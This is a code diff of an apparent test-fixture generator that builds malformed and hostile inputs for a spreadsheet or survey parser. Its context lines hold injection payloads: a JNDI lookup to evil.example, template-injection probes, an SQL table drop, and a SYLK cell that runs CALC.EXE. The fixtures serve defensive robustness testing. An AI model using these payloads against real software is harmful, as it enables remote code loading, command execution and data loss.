@@ -216,7 +216,7 @@ def marks():
         "lookup": "${jndi:ldap://evil.example/a}",
         "template": "{{7*7}}",
         "sql": "'; drop table sheets; --",
-        "of-a-row": f"{SURVEY}-1",
+        "of-a-row": "0ther0ne-1",
     }
     return {
         f"mark-{name}.json": written(document(sheets=[member(mark=one)]))
@@ -624,7 +624,7 @@ def quiet():
             "accents": ("Z" + "\u0351" * 200) * 10,
             "emoji": "👩‍👩‍👧‍👦😀👍🏽" * 100,
             "letter-that-grows": "\ufdfa" * 2000,
-            "sheet-as-text": WHOLE,
+            "sheet-as-text": to_json(rated("h0st2")),
             "template-braces": "{0.__class__.__init__.__globals__} {{7*7}} ${7*7} %s%n",
             "words-of-five-letters": "There which about after where these words would never make "
             * 20,
@@ -777,7 +777,7 @@ def csv_files():
         "delimiter-said-alone": "sep=;\r\n",
         "html-page": f"<html><table><tr><td>1.1</td></tr><tr><td>{HTML}4</td></tr></table></html>",
         "xml-spreadsheet-of-2003": '<?xml version="1.0"?><Workbook><Worksheet/></Workbook>',
-        "json": WHOLE,
+        "json": to_json(rated("h0st2")),
         "rich-text": "{\\rtf1\\ansi 4}",
         "symbolic-link-file": 'ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC("CALC.EXE")\r\nE\r\n',
         "data-interchange-file": 'TABLE\r\n0,1\r\n"EXCEL"\r\nDATA\r\n0,0\r\n""\r\n',
